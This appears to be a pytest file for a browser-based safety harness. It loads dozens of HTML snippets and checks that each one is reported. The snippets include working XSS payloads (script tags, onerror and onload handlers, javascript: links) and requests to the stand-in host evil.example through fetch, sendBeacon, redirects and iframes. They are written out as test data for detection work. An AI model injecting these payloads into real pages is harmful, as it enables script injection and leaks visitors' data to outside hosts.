"""What the payloads are tested with tells of each way in which a page can run, ask or lead astray."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.safety import harness

ORIGIN = "https://a.example"
EVIL = "https://evil.example/1"
PAGE = '<!doctype html><html lang="en"><meta charset="utf-8"><title>T</title><body>{}</body></html>'

UNSAFE = {
    "script": ("<script>pwned(1)</script>", "a script ran: pwned(1,)"),
    "error": ("<img src=x onerror=pwned(1)>", "a script ran"),
    "load": ("<svg onload=pwned(1)></svg>", "a script ran"),
    "autofocus": ("<input onfocus=pwned(1) autofocus>", "a script ran"),
    "toggle": ("<details ontoggle=pwned(1)><summary>x</summary></details>", "a script ran"),
    "hover": ("<b onmouseover=pwned(1)>x</b>", "a script ran"),
    "pointer": ("<b onpointerrawupdate=pwned(1)>x</b>", "a script ran"),
    "key": ("<b tabindex=0 onkeydown=pwned(1)>x</b>", "a script ran"),
    "print": ("<body onbeforeprint=pwned(1)>", 'attribute onbeforeprint="pwned(1)" of <body>'),
    "animation": ("<style>@keyframes k{}</style><b style='animation:k 1ms' onanimationend=pwned(1)>x</b>", "a script ran"),
    "link": ("<a href=javascript:pwned(1)>x</a>", "a script ran"),
    "link-scheme": ("<a href=' java\tscript:pwned(1)'>x</a>", "<a href> leads to javascript:"),
    "data-link": ("<a href=data:text/html,x>x</a>", "<a href> leads to data:"),
    "button": ("<form><button formaction=javascript:pwned(1)>x</button></form>", "a script ran"),
    "dialog": ("<script>alert(1)</script>", "a dialog: 1"),
    "location": (f"<script>location='{EVIL}'</script>", f"it asked for document {EVIL}"),
    "refresh": (f"<meta http-equiv=refresh content='0;url={EVIL}'>", f"it asked for document {EVIL}"),
    "base": ("<base href=https://evil.example/><link rel=stylesheet href=1>", f"it asked for stylesheet {EVIL}"),
    "fetch": (f"<script>fetch('{EVIL}').catch(() => 0)</script>", f"it asked for fetch {EVIL}"),
    "beacon": (f"<script>navigator.sendBeacon('{EVIL}')</script>", f"it asked for ping {EVIL}"),
    "script-file": (f"<script src={EVIL}></script>", f"it asked for script {EVIL}"),
    "style": (f"<style>@import '{EVIL}'</style>", f"it asked for stylesheet {EVIL}"),
    "frame": (f"<iframe src={EVIL}></iframe>", f"it asked for document {EVIL}"),
    "srcdoc": ("<iframe srcdoc='<script>pwned(1)</script>'></iframe>", "a script ran"),
    "object": (f"<object data={EVIL}></object>", EVIL),
    "film": (f"<video src={EVIL} autoplay></video>", f"it asked for media {EVIL}"),
    "own-host": ("<script src=/not-there.js></script>", "it asked for script https://a.example/not-there.js"),
    "error-of-a-script": ("<script>nonsense(</script>", "an error of a script"),
    "code-in-the-page": ("<script>let a</script>", "code in the page: let a"),
    "broken-data": ('<script type=application/ld+json>{"a": </script>', "data that is no JSON"),
    "element": ("<svg></svg>", "element <svg> of http://www.w3.org/2000/svg"),
    "form": ("<form></form>", "element <form>"),
    "handler": ("<p onxyz=1>x</p>", 'attribute onxyz="1" of <p>'),
    "inline-style": ("<p style=color:red>x</p>", 'attribute style="color:red" of <p>'),
    "id": ("<p id=player>x</p>", 'id="player" of <p>'),
    "name": ("<img name=currentScript>", 'attribute name="currentScript" of <img>'),
    "class": ("<p class=skip>x</p>", 'class="skip" of <p>'),
    "in-noscript": ("<noscript><form></form></noscript>", "element <form>"),
    "in-a-template": ("<template><form></form></template>", "element <form>"),
    "meta": ("<meta name=x content=y>", "2 elements <meta> where 1 belong"),
    # The last, for a window may open late.
    "window": (f"<script>open('{EVIL}')</script>", f"it asked for document {EVIL}"),
}  # fmt: skip


@pytest.fixture
def window(browser: Any, tmp_path: Path) -> Iterator[harness.Visitor]:
    with harness.visitor(browser, origin=ORIGIN) as found:
        found.root = tmp_path
        yield found


def test_each_way_is_told_of_the_page_that_takes_it(browser: Any, tmp_path: Path) -> None:
    """Each stands in a page of its own, beside one that is harmless."""
    harmless = PAGE.format(
        "<p title=x>Hi <a href=/b>x</a> <audio src=https://cdn.example/1.mp3></audio>"
    )
    (tmp_path / "harmless.html").write_text(harmless, encoding="utf-8")
    told = {}
    with harness.visitor(browser, origin=ORIGIN) as window:
        window.root, window.sounds = tmp_path, {"https://cdn.example/1.mp3"}
        for name, (unsafe, _) in UNSAFE.items():
            (tmp_path / f"{name}.html").write_text(PAGE.format(unsafe), encoding="utf-8")
            seen = window.visit(["harmless.html", f"{name}.html"])
            shape = harness.Shape.of(seen["harmless.html"].still)
            ours = seen[f"{name}.html"]
            told[name] = [
                *ours.faults,
                *harness.strangers(ours.live, shape),
                *harness.strangers(ours.still, shape),
            ]
            if name not in {"dialog", "window", "error-of-a-script"}:  # a browser names no frame
                assert seen["harmless.html"].faults == [], name
    missed = {
        name: told[name]
        for name, (_, words) in UNSAFE.items()
        if not any(words in fault for fault in told[name])
    }
    assert missed == {}


def test_pictures_of_other_hosts_are_told_apart(window: harness.Visitor, tmp_path: Path) -> None:
    (tmp_path / "x.html").write_text(PAGE.format(f"<img src={EVIL}><img src=y>"), encoding="utf-8")
    seen = window.visit(["x.html"])["x.html"]
    assert seen.faults == []
    assert seen.pictures == [
        f"it asked for image {EVIL}",
        "it asked for image https://a.example/y",
    ]


def test_a_policy_is_taken_out_unless_it_is_asked_for(browser: Any, tmp_path: Path) -> None:
    policy = '<meta http-equiv="Content-Security-Policy" content="default-src \'none\'">'
    text = PAGE.format("<script>pwned(1)</script>").replace("<title>", f"{policy}<title>")
    (tmp_path / "x.html").write_text(text, encoding="utf-8")
    for with_policy, words in ((False, "a script ran"), (True, "its own policy")):
        with harness.visitor(browser, origin=ORIGIN, with_policy=with_policy) as window:
            window.root = tmp_path
            faults = window.visit(["x.html"])["x.html"].faults
            assert any(words in fault for fault in faults)
            assert any("a script ran" in fault for fault in faults) is not with_policy
